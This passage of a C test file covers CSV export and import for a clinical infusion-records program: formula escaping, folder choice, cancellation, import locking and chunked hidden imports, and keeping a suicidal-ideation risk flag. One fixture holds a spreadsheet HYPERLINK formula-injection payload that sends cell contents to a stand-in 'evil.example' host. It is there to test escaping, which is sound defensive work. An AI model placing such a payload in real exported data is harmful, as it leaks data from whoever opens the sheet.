}

/* Text a spreadsheet would run as a formula is written with one apostrophe
 * before it, and import drops it again: the round trip stays byte for byte,
 * and the store holds what was typed. */
static void
test_formula_round_trip (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "formula.db");
  g_autoptr(TrajStore) again_store = open_store (fx, "formula-again.db");
  g_autoptr(TrajPatient) p = traj_patient_new ();
  g_autoptr(TrajPatient) wide = traj_patient_new ();
  g_autoptr(TrajPatient) back = NULL, wide_back = NULL;
  g_autofree char *first = path_in (fx, "formula-1");
  g_autofree char *second = path_in (fx, "formula-2");
  g_autofree char *patients_csv = NULL, *text = NULL;
  GError *error = NULL;

  p->mrn = g_strdup ("-42");
  p->name = g_strdup ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
  p->notes = g_strdup ("'quoted' on purpose");
  p->birth_day = traj_day_from_ymd (1980, 2, 3);
  p->sex = TRAJ_SEX_FEMALE;
  p->indication = TRAJ_INDICATION_DEPRESSION;
  g_assert_true (traj_store_insert_patient (store, p, &error));
  g_assert_no_error (error);
  /* Full-width "＝", "＠" run as formulas in East Asian spreadsheets. */
  wide->mrn = g_strdup ("\uFF20A7");
  wide->name = g_strdup ("\uFF1DSUM(A1)");
  wide->birth_day = traj_day_from_ymd (1981, 3, 4);
  wide->sex = TRAJ_SEX_MALE;
  wide->indication = TRAJ_INDICATION_DEPRESSION;
  g_assert_true (traj_store_insert_patient (store, wide, &error));
  g_assert_no_error (error);

  g_assert_true (traj_csv_export (store, first, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  /* The export is in the trail: who, and where to. */
  {
    TrajAuditFilter f = { .action = "export", .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
    g_autoptr(GPtrArray) events = traj_store_list_audit_filtered (store, &f, &error);
    g_autofree char *to = g_strdup_printf ("to: %s\n", first);
    const TrajAuditEvent *e;

    g_assert_no_error (error);
    g_assert_cmpuint (events->len, ==, 1);
    e = g_ptr_array_index (events, 0);
    g_assert_cmpstr (e->summary, ==, "CSV export: the whole clinic");
    g_assert_cmpstr (e->detail, ==, to);
  }
  patients_csv = g_build_filename (first, "patients.csv", NULL);
  text = read_file (patients_csv);
  g_assert_nonnull (strstr (text, ",'\uFF20A7,'\uFF1DSUM(A1),1981-03-04,"));
  g_assert_nonnull (strstr (text, ",'-42,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",1980-02-03,"));
  g_assert_nonnull (strstr (text, ",depression,''quoted' on purpose,"));
  g_assert_null (strstr (text, ",=HYPERLINK"));
  g_assert_null (strstr (text, "\"=HYPERLINK"));

  g_assert_true (traj_csv_import (again_store, first, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  back = traj_store_find_patient_by_mrn (again_store, "-42", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (back->name, ==, p->name);
  g_assert_cmpstr (back->notes, ==, p->notes);
  wide_back = traj_store_find_patient_by_mrn (again_store, "\uFF20A7", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (wide_back->name, ==, wide->name);
  g_assert_true (traj_csv_export (again_store, second, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  assert_same_files (first, second);
}

/* The GUI exports into the folder a person chose; one that holds their own
 * files gets a new folder inside it instead of being refused. */
static void
test_export_target (Fixture *fx, gconstpointer data)
{
  g_autofree char *missing = path_in (fx, "new-folder");
  g_autofree char *docs = path_in (fx, "Documents");
  g_autofree char *letter = g_build_filename (docs, "letter.odt", NULL);
  g_autofree char *day = traj_day_to_iso (traj_day_today ());
  g_autofree char *expect = NULL, *expect2 = NULL;
  g_autofree char *t1 = NULL, *t2 = NULL, *t3 = NULL, *t4 = NULL;
  g_autoptr(TrajStore) store = demo_store (fx, "target.db", 2);
  GError *error = NULL;

  t1 = traj_csv_export_target (missing);
  g_assert_cmpstr (t1, ==, missing);
  g_assert_cmpint (g_mkdir (docs, 0700), ==, 0);
  t2 = traj_csv_export_target (docs);
  g_assert_cmpstr (t2, ==, docs);
  write_file (letter, "dear");
  t3 = traj_csv_export_target (docs);
  expect = g_strdup_printf ("%s/trajectory-csv-%s", docs, day);
  g_assert_cmpstr (t3, ==, expect);
  g_assert_true (traj_csv_export (store, t3, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  /* An earlier export is replaced as a whole; the next one goes beside it. */
  {
    g_autofree char *again = traj_csv_export_target (t3);
    g_assert_cmpstr (again, ==, t3);
  }
  t4 = traj_csv_export_target (docs);
  expect2 = g_strdup_printf ("%s/trajectory-csv-%s-2", docs, day);
  g_assert_cmpstr (t4, ==, expect2);
}

static gboolean
cancel_soon (gpointer data)
{
  g_cancellable_cancel (data);
  return G_SOURCE_REMOVE;
}

static void
cancel_on_progress (double fraction, gpointer user_data)
{
  cancel_soon (user_data);
}

static void
test_cancel (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) source = demo_store (fx, "c-source.db", 40);
  g_autoptr(TrajStore) target = open_store (fx, "c-target.db");
  g_autofree char *dir = path_in (fx, "c-files");
  g_autoptr(GCancellable) cancel = g_cancellable_new ();
  GError *error = NULL;

  g_assert_true (traj_csv_export (source, dir, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_false (traj_csv_import (target, dir, NULL, cancel_on_progress, cancel, cancel, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_cmpint (traj_store_count (target, TRAJ_KIND_PATIENT, NULL), ==, 0);
  g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action = 'import'"), ==, 0);
}

/* Called once while the import checks its files: patients.csv, already
 * read, is touched (its time changes; its text does not). */
static void
touch_on_progress (double fraction, gpointer user_data)
{
  const char *path = user_data;
  struct utimbuf times = { 946684800, 946684800 };   /* 2000-01-01 */

  if (fraction < 0.5)
    g_assert_cmpint (g_utime (path, &times), ==, 0);
}

/* Issue 16 §2: an import reads its files twice, checking and then writing,
 * so what it writes is what it checked: a file that changes in between
 * imports nothing, with a message that says so. */
static void
test_import_changed_between_readings (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) source = demo_store (fx, "ch-source.db", 40);
  g_autoptr(TrajStore) target = open_store (fx, "ch-target.db");
  g_autofree char *dir = path_in (fx, "ch-files");
  g_autofree char *patients = g_build_filename (dir, "patients.csv", NULL);
  GError *error = NULL;

  g_assert_true (traj_csv_export (source, dir, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_false (traj_csv_import (target, dir, NULL, touch_on_progress, patients, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_assert_cmpstr (error->message, ==,
                   "patients.csv changed while it was being imported; nothing was imported. Import it again.");
  g_clear_error (&error);
  g_assert_cmpint (traj_store_count (target, TRAJ_KIND_PATIENT, NULL), ==, 0);
  g_assert_cmpint (count (target, "SELECT count(*) FROM audit_event WHERE action = 'import'"), ==, 0);
  /* Left alone, the same files import. */
  g_assert_true (traj_csv_import (target, dir, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (traj_store_count (target, TRAJ_KIND_PATIENT, NULL), ==, 40);
}

/* Issue 16 §2: a file with problems is refused without taking the write
 * lock. Another connection holds it throughout; the import still reports
 * its problem (before, it waited the busy timeout and failed as "busy"). */
static void
test_import_problems_take_no_lock (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = NULL;
  g_autoptr(TrajStore) other = NULL;
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autofree char *dir = path_in (fx, "nl-files");
  g_autofree char *reason = NULL;
  GError *error = NULL;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  store = open_store (fx, "nl.db");
  other = traj_store_open_secondary (store, &error);
  g_assert_no_error (error);
  write_small (dir, TRAJ_CSV_PATIENTS, ",female,", ",Female,");
  g_assert_true (traj_store_bulk_begin (other, "import", "another import, holding the write lock", &error));
  g_assert_no_error (error);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_cmpuint (report->n_problems, ==, 1);
  reason = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
  g_assert_cmpstr (reason, ==, "patients.csv:2: unknown sex “Female” (one of: unknown, female, male, other)");
  traj_store_bulk_rollback (other);
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
}

/* An import never changes a patient of the clinic, so it cannot clear the
 * suicidal-ideation risk flag (Edit Patient asks who and why for that):
 * a row of the flagged patient without the flag, by its uid or by its MRN,
 * is refused with a message that says the flag stays and where it is
 * cleared; nothing is written and the flag is still set. */
static void
test_import_keeps_risk_flag (Fixture *fx, gconstpointer data)
{
  static const char header[] =
    "uid,mrn,name,birth_date,sex,indication,notes,created_at,updated_at,indication_detail,risk_si_at,risk_si_by\r\n";
  static const char *const rows[] = {
    /* the flagged patient, flag cleared */
    P1 ",M-1,\"Abbott, Ada\",1980-02-03,female,depression,,2026-01-05T09:00:00Z,2026-01-06T10:00:00Z,trd,,\r\n",
    /* a new uid with the flagged patient's MRN (SQLite only: a server hears of
     * an MRN clash without the row) */
    "bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb,M-1,Ada Abbott,1980-02-03,female,depression,,,,trd,,\r\n",
  };
  static const char flag_note[] =
    " The clinic’s patient with MRN M-1 has the suicidal-ideation risk flag set, and an import never changes "
    "a patient or clears the flag: clear it in Edit Patient, which asks who and why.";
  g_autoptr(TrajStore) store = open_store (fx, "flag.db");
  g_autofree char *dir = path_in (fx, "flag-small");
  g_autoptr(TrajCsvReport) first = traj_csv_report_new ();
  TrajAuditFilter all = { .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
  GError *error = NULL;
  gint64 audit_before;

  write_small (dir, 0, NULL, NULL);
  g_assert_true (traj_csv_import (store, dir, first, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  audit_before = traj_store_count_audit_filtered (store, &all, &error);
  g_assert_no_error (error);

  for (guint k = 0; k < G_N_ELEMENTS (rows); k++)
    {
      g_autofree char *sub = g_strdup_printf ("flag-%u", k);
      g_autofree char *subdir = path_in (fx, sub);
      g_autofree char *file = g_build_filename (subdir, "patients.csv", NULL);
      g_autofree char *text = g_strconcat (header, rows[k], NULL);
      g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
      g_autoptr(TrajPatient) p = NULL;
      g_autofree char *reason = NULL, *expect = NULL;

      if (k == 1 && traj_test_postgres ())
        break;
      g_assert_cmpint (g_mkdir_with_parents (subdir, 0700), ==, 0);
      write_file (file, text);
      g_assert_false (traj_csv_import (store, subdir, report, NULL, NULL, NULL, &error));
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
      g_clear_error (&error);
      g_assert_cmpuint (report->n_problems, ==, 1);
      reason = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
      expect = g_strconcat ("patients.csv:2: MRN M-1 is already used by another patient.", flag_note, NULL);
      g_assert_cmpstr (reason, ==, expect);

      p = traj_store_find_patient_by_mrn (store, "M-1", &error);
      g_assert_no_error (error);
      g_assert_cmpstr (p->uid, ==, P1);
      g_assert_cmpint (p->risk_si_at, ==, traj_time_from_iso ("2026-01-05T09:30:00Z", NULL));
      g_assert_cmpstr (p->risk_si_by, ==, "Dr. A");
    }
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 2);

  /* A patient without the flag: the plain reason, no word of a flag. */
  {
    g_autofree char *subdir = path_in (fx, "flag-none");
    g_autofree char *file = g_build_filename (subdir, "patients.csv", NULL);
    g_autofree char *text = g_strconcat (header, P2 ",M-2,Ben Bianchi,1975-07-08,male,chronic_pain,,,,crps,,\r\n", NULL);
    g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
    g_autofree char *reason = NULL;

    g_assert_cmpint (g_mkdir_with_parents (subdir, 0700), ==, 0);
    write_file (file, text);
    g_assert_false (traj_csv_import (store, subdir, report, NULL, NULL, NULL, &error));
    g_clear_error (&error);
    g_assert_cmpuint (report->n_problems, ==, 1);
    reason = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
    g_assert_cmpstr (reason, ==, "patients.csv:2: MRN M-2 is already used by another patient.");
  }
  /* Nothing of the refused imports reached the trail. */
  g_assert_cmpint (traj_store_count_audit_filtered (store, &all, &error), ==, audit_before);
  g_assert_no_error (error);
}

/* ---- an import in hidden chunks (issue 16 §2) ------------------------------------ */

#define CHUNK_SOURCE_PATIENTS 12

/* The small clinic in @path, and a demo clinic of CHUNK_SOURCE_PATIENTS
 * exported to @dir for importing into it. */
static void
chunk_setup (Fixture *fx, const char *name, const char *dir)
{
  g_autoptr(TrajStore) source = demo_store (fx, "chunk-source.db", CHUNK_SOURCE_PATIENTS);
  g_autoptr(TrajStore) target = open_store (fx, name);
  g_autofree char *small = path_in (fx, "chunk-small");
  g_autoptr(TrajCsvReport) out = traj_csv_report_new ();
  g_autoptr(TrajCsvReport) in = traj_csv_report_new ();
  GError *error = NULL;

  write_small (small, 0, NULL, NULL);
  g_assert_true (traj_csv_import (target, small, in, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (traj_csv_export (source, dir, out, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
}

/* What every reader must see of the clinic while the import runs: the small
 * clinic, nothing of the import. */
static void
assert_small_clinic (TrajStore *store, gint64 patients)
{
  static const struct { TrajRecordKind kind; gint64 n; } expect[] = {
    { TRAJ_KIND_COURSE, 1 }, { TRAJ_KIND_INFUSION, 1 }, { TRAJ_KIND_VITAL_SIGN, 2 },
    { TRAJ_KIND_ASSESSMENT, 3 }, { TRAJ_KIND_FLAG_DECISION, 1 },
  };
  g_autoptr(GPtrArray) list = NULL;
  GError *error = NULL;

  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, &error), ==, patients);
  g_assert_no_error (error);
  for (guint k = 0; k < G_N_ELEMENTS (expect); k++)
    g_assert_cmpint (traj_store_count (store, expect[k].kind, NULL), ==, expect[k].n);
  list = traj_store_list_patients (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (list->len, ==, patients);
}

typedef struct {
  const char *path;
  TrajStore *other;           /* another connection: a clinician's program */
  guint pauses;
  guint hidden_seen;          /* pauses with hidden rows committed */
  gboolean saved;
  guint kill_after;           /* in the killed child: SIGKILL at this pause */
  gboolean mrn_tried;         /* a save with the MRN of a hidden patient */
} ChunkWatch;

static void
chunk_pause (gpointer user_data)
{
  ChunkWatch *w = user_data;
  GError *error = NULL;

  w->pauses++;
  if (w->kill_after && w->pauses == w->kill_after)
    raise (SIGKILL);
  if (w->other == NULL)
    return;
  /* Rows of the import are committed in the file… */
  if (traj_test_query_int (w->path, "SELECT count(*) FROM patient WHERE deleted_at < 0") > 0)
    w->hidden_seen++;
  /* …but no reader sees any of them. */
  assert_small_clinic (w->other, w->saved ? 3 : 2);
  /* A clinician's save goes through while the import is under way. */
  if (!w->saved)
    {
      g_autoptr(TrajPatient) p = traj_patient_new ();

      p->mrn = g_strdup ("S-1");
      p->name = g_strdup ("Saved During Import");
      p->birth_day = traj_day_from_ymd (1970, 1, 1);
      g_assert_true (traj_store_insert_patient (w->other, p, &error));
      g_assert_no_error (error);
      w->saved = TRUE;
    }
  /* A clinician adding a patient whose MRN a hidden patient of the import
   * holds is told so, not that a patient they cannot see has it; the MRN
   * of a patient they can see gets the usual message. */
  else if (!w->mrn_tried && traj_test_query_int (w->path, "SELECT count(*) FROM patient WHERE deleted_at < 0") > 0)
    {
      g_autofree char *mrn = traj_test_query_text (w->path, "SELECT mrn FROM patient WHERE deleted_at < 0 LIMIT 1");
      g_autoptr(TrajPatient) p = traj_patient_new ();

      p->mrn = g_strdup (mrn);
      p->name = g_strdup ("Typed During Import");
      p->birth_day = traj_day_from_ymd (1971, 1, 1);
      g_assert_false (traj_store_insert_patient (w->other, p, &error));
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_MRN_DUPLICATE);
      g_assert_nonnull (strstr (error->message, "an import is adding right now"));
      g_assert_nonnull (strstr (error->message, mrn));
      g_clear_error (&error);
      g_free (p->mrn);
      p->mrn = g_strdup ("S-1");
      g_assert_false (traj_store_insert_patient (w->other, p, &error));
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_MRN_DUPLICATE);
      g_assert_cmpstr (error->message, ==, "MRN S-1 is already used by another patient.");
      g_clear_error (&error);
      w->mrn_tried = TRUE;
    }
}

static void
test_import_hidden_chunks (Fixture *fx, gconstpointer data)
{
  g_autofree char *dir = path_in (fx, "chunk-files");
  g_autofree char *path = path_in (fx, "chunks.db");
  g_autoptr(TrajStore) store = NULL;
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autoptr(GPtrArray) events = NULL;
  TrajAuditFilter imports = { .action = "import", .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
  ChunkWatch w = { path };
  g_autofree char *counts = NULL;
  GError *error = NULL;
  gint64 saved_event;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  chunk_setup (fx, "chunks.db", dir);
  store = open_store (fx, "chunks.db");
  w.other = traj_store_open_secondary (store, &error);
  g_assert_no_error (error);

  /* A chunk after every row: the most commits, the most pauses. */
  g_setenv ("TRAJ_BULK_CHUNK_MS", "0", TRUE);
  traj_bulk_set_pause_func (store, chunk_pause, &w);
  g_assert_true (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_unsetenv ("TRAJ_BULK_CHUNK_MS");
  g_assert_no_error (error);
  g_assert_cmpuint (w.pauses, >, 100);
  g_assert_cmpuint (w.hidden_seen, >, 100);
  g_assert_true (w.saved);
  g_assert_true (w.mrn_tried);

  /* All of it at once, and the save kept. */
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_PATIENT, NULL), ==, 2 + CHUNK_SOURCE_PATIENTS + 1);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_COURSE, NULL), ==, 1 + (gint64) report->rows[TRAJ_CSV_COURSES]);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_VITAL_SIGN, NULL), ==,
                   2 + (gint64) report->rows[TRAJ_CSV_VITAL_SIGNS]);
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient WHERE deleted_at IS NOT NULL"), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM trajectory_meta WHERE key LIKE 'hidden-import:%'"), ==, 0);
  /* Every imported patient's needs-attention state is there. */
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient p LEFT JOIN patient_attention a "
                                 "ON a.patient_id = p.id WHERE a.patient_id IS NULL"), ==, 0);

  /* The save landed between the import's first and last events, and the
   * import's records are its own: 12 patients listed, not the saved one. */
  saved_event = count (store, "SELECT id FROM audit_event WHERE summary LIKE '%S-1%'");
  g_assert_cmpint (saved_event, >, count (store, "SELECT min(id) FROM audit_event WHERE action = 'import' "
                                                  "AND summary LIKE 'CSV import from %chunk-files'"));
  g_assert_cmpint (saved_event, <, count (store, "SELECT max(id) FROM audit_event WHERE record_kind = 'counts'"));
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE action = 'import' AND record_kind = 'records' "
                                 "AND detail LIKE 'patient %' AND id > (SELECT id FROM audit_event "
                                 "WHERE summary LIKE 'CSV import from %chunk-files')"), ==, CHUNK_SOURCE_PATIENTS);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE record_kind = 'records' AND instr (detail, "
                                 "(SELECT uid FROM patient WHERE mrn = 'S-1')) > 0"), ==, 0);
  events = traj_store_list_audit_filtered (store, &imports, &error);
  g_assert_no_error (error);
  counts = g_strdup_printf ("import: patient %d, course %u, infusion %u, vital_sign %u, assessment %u, "
                            "flag_decision %u, medication %u", CHUNK_SOURCE_PATIENTS,
                            report->rows[TRAJ_CSV_COURSES], report->rows[TRAJ_CSV_INFUSIONS],
                            report->rows[TRAJ_CSV_VITAL_SIGNS], report->rows[TRAJ_CSV_ASSESSMENTS],
                            report->rows[TRAJ_CSV_FLAG_DECISIONS], report->rows[TRAJ_CSV_MEDICATIONS]);
  g_assert_cmpstr (((TrajAuditEvent *) g_ptr_array_index (events, 0))->summary, ==, counts);
  g_clear_object (&w.other);
}

/* A course for a patient already in the clinic cannot be hidden with its
 * patient: from that chunk on the import keeps its transaction; still all
 * at once for every reader. */
static void
hold_pause (gpointer user_data)
{
  ChunkWatch *w = user_data;

  w->pauses++;
  if (w->kill_after && w->pauses == w->kill_after)
    raise (SIGKILL);
  if (w->other == NULL)
    return;
  assert_small_clinic (w->other, 2);
  /* The course of the patient already in the clinic, committed but hidden
   * on its own. */
  if (traj_test_query_int (w->path, "SELECT count(*) FROM course WHERE deleted_at < 0") > 0)
    w->hidden_seen++;
}

/* The files of the existing-patient tests: a new patient with a course, and
 * a course for P2, who is in the small clinic. */
static void
hold_setup (Fixture *fx, TrajStore *store, const char *dir)
{
  g_autofree char *small = path_in (fx, "hold-small");
  g_autofree char *patients = g_build_filename (dir, "patients.csv", NULL);
  g_autofree char *courses = g_build_filename (dir, "courses.csv", NULL);
  g_autofree char *infusions = g_build_filename (dir, "infusions.csv", NULL);
  g_autofree char *vitals = g_build_filename (dir, "vital_signs.csv", NULL);
  g_autoptr(TrajCsvReport) first = traj_csv_report_new ();
  GError *error = NULL;

  write_small (small, 0, NULL, NULL);
  g_assert_true (traj_csv_import (store, small, first, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  write_file (patients,
              "uid,mrn,name,birth_date,sex,indication,notes,created_at,updated_at,indication_detail,risk_si_at,risk_si_by\r\n"
              "cccccccc-cccc-4ccc-8ccc-cccccccccccc,M-3,Cai Chen,1990-03-04,female,depression,,,,,,\r\n");
  write_file (courses,
              "uid,patient_uid,indication,primary_scale,protocol,induction_length,start_date,end_date,status,notes,"
              "indication_detail\r\n"
              "dddddddd-dddd-4ddd-8ddd-dddddddddddd," P2 ",chronic_pain,pain_nrs,,6,2026-02-01,,induction,,crps\r\n"
              "eeeeeeee-eeee-4eee-8eee-eeeeeeeeeeee,cccccccc-cccc-4ccc-8ccc-cccccccccccc,depression,phq9,,6,2026-02-02,,"
              "induction,,\r\n");
  /* An infusion for P2 in that course (found hidden by a later chunk),
   * with a reading. */
  write_file (infusions,
              "uid,patient_uid,course_uid,started_at,duration_min,route,medicine,lot,phase,weight_kg,dose_mg_per_kg,"
              "total_mg,side_effects,side_effect_note,concomitant,monitoring_min,ready_at,clinician,notes,date_confirmed,"
              "cadss_total,moaas_lowest" REMS_COLUMNS "\r\n"
              "ffffffff-ffff-4fff-8fff-ffffffffffff," P2 ",dddddddd-dddd-4ddd-8ddd-dddddddddddd,2026-02-03T09:00:00Z,40,"
              "iv,ketamine,L1,induction,70.3,0.5,35.15,,,,60,2026-02-03T10:40:00Z,Dr. A,,,20,4" NO_REMS "\r\n");
  write_file (vitals,
              "uid,infusion_uid,minute,systolic,diastolic,heart_rate,spo2,resp_rate\r\n"
              "12121212-1212-4121-8121-121212121212,ffffffff-ffff-4fff-8fff-ffffffffffff,0,120,80,72,98,14\r\n");
}

static void
test_import_hidden_existing_patient (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = NULL;
  g_autofree char *dir = path_in (fx, "hold-files");
  g_autofree char *path = path_in (fx, "hold.db");
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  ChunkWatch w = { path };
  GError *error = NULL;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  store = open_store (fx, "hold.db");
  hold_setup (fx, store, dir);
  w.other = traj_store_open_secondary (store, &error);
  g_assert_no_error (error);
  g_setenv ("TRAJ_BULK_CHUNK_MS", "0", TRUE);
  traj_bulk_set_pause_func (store, hold_pause, &w);
  g_assert_true (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_unsetenv ("TRAJ_BULK_CHUNK_MS");
  g_assert_no_error (error);
  /* Every row was committed hidden, the course of P2 (a patient already
   * in the clinic) too: a pause after each (hold_pause () found the small
   * clinic in each). */
  g_assert_cmpuint (w.pauses, >=, 2);
  g_assert_cmpuint (w.hidden_seen, >=, 1);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_PATIENT, NULL), ==, 3);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_COURSE, NULL), ==, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM course c JOIN patient p ON p.id = c.patient_id "
                                 "WHERE p.mrn = 'M-2'"), ==, 1);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_INFUSION, NULL), ==, 2);
  g_assert_cmpint (traj_store_count (w.other, TRAJ_KIND_VITAL_SIGN, NULL), ==, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM infusion i JOIN course c ON c.id = i.course_id "
                                 "WHERE c.uid = 'dddddddd-dddd-4ddd-8ddd-dddddddddddd'"), ==, 1);
  g_assert_cmpint (count (store, "SELECT count(*) FROM infusion WHERE deleted_at IS NOT NULL"), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient WHERE deleted_at IS NOT NULL"), ==, 0);
  g_clear_object (&w.other);
}

/* Killed after the course for P2 was committed hidden: the next open
 * removes it with the new patient, and says so. */
static void
test_import_hidden_existing_killed (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = NULL;
  g_autofree char *dir = path_in (fx, "hold-killed-files");
  g_autofree char *path = path_in (fx, "hold-killed.db");
  g_autoptr(TrajCsvReport) again = traj_csv_report_new ();
  GError *error = NULL;
  int status = 0;
  pid_t pid;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  store = open_store (fx, "hold-killed.db");
  hold_setup (fx, store, dir);
  g_clear_object (&store);

  pid = fork ();
  g_assert_cmpint (pid, >=, 0);
  if (pid == 0)
    {
      /* Pauses: after the patient, after P2's course. */
      ChunkWatch w = { path, NULL, 0, 0, FALSE, 2 };
      TrajStore *child = traj_store_open (path, NULL);
      TrajCsvReport *r = traj_csv_report_new ();

      g_setenv ("TRAJ_BULK_CHUNK_MS", "0", TRUE);
      if (child)
        {
          traj_bulk_set_pause_func (child, hold_pause, &w);
          traj_csv_import (child, dir, r, NULL, NULL, NULL, NULL);
        }
      _exit (3);   /* not killed: the test fails below */
    }
  g_assert_cmpint (waitpid (pid, &status, 0), ==, pid);
  g_assert_true (WIFSIGNALED (status));
  g_assert_cmpint (WTERMSIG (status), ==, SIGKILL);
  g_assert_cmpint (traj_test_query_int (path, "SELECT count(*) FROM course WHERE deleted_at < 0"), ==, 1);
  g_assert_cmpint (traj_test_query_int (path, "SELECT count(*) FROM patient WHERE deleted_at < 0"), ==, 1);

  store = traj_store_open (path, &error);
  g_assert_no_error (error);
  assert_small_clinic (store, 2);
  g_assert_cmpint (count (store, "SELECT count(*) FROM course"), ==, 1);
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient"), ==, 2);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE summary = "
                                 "'import: unfinished, removed: 1 hidden patients and their records, "
                                 "1 hidden records of other patients'"), ==, 1);
  g_assert_true (traj_store_audit_verify (store, NULL, &error));
  g_assert_no_error (error);

  /* The same files then import whole. */
  g_assert_true (traj_csv_import (store, dir, again, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_COURSE, NULL), ==, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM course WHERE deleted_at IS NOT NULL"), ==, 0);
}

/* A row of the import that clashes, in the writing, with what a clinician
 * saved meanwhile (the checking found nothing wrong): nothing of the
 * import stays, not even the chunks already committed. */
static void
clash_pause (gpointer user_data)
{
  ChunkWatch *w = user_data;
  GError *error = NULL;

  w->pauses++;
  if (!w->saved)
    {
      g_autoptr(TrajPatient) p = traj_patient_new ();
      g_autofree char *mrn = traj_test_query_text (w->path, "SELECT mrn FROM patient ORDER BY id DESC LIMIT 1");

      p->mrn = g_steal_pointer (&mrn);
      p->name = g_strdup ("Same MRN Saved Meanwhile");
      p->birth_day = traj_day_from_ymd (1970, 1, 1);
      g_assert_true (traj_store_insert_patient (w->other, p, &error));
      g_assert_no_error (error);
      w->saved = TRUE;
    }
}

static void
test_import_hidden_clash (Fixture *fx, gconstpointer data)
{
  g_autofree char *dir = path_in (fx, "clash-files");
  g_autofree char *source = path_in (fx, "chunk-source.db");
  g_autoptr(TrajStore) store = NULL;
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autofree char *reason = NULL, *mrn = NULL, *expect = NULL;
  ChunkWatch w = { NULL };
  GError *error = NULL;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  chunk_setup (fx, "clash.db", dir);
  w.path = source;
  store = open_store (fx, "clash.db");
  w.other = traj_store_open_secondary (store, &error);
  g_assert_no_error (error);
  g_setenv ("TRAJ_BULK_CHUNK_MS", "0", TRUE);
  traj_bulk_set_pause_func (store, clash_pause, &w);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_unsetenv ("TRAJ_BULK_CHUNK_MS");
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_true (w.saved);
  /* The writing went on in chunks after the problem (row 13 of about a
   * thousand): saves never waited for the rest of it. */
  g_assert_cmpuint (w.pauses, >, 100);
  g_assert_cmpuint (report->n_problems, ==, 1);
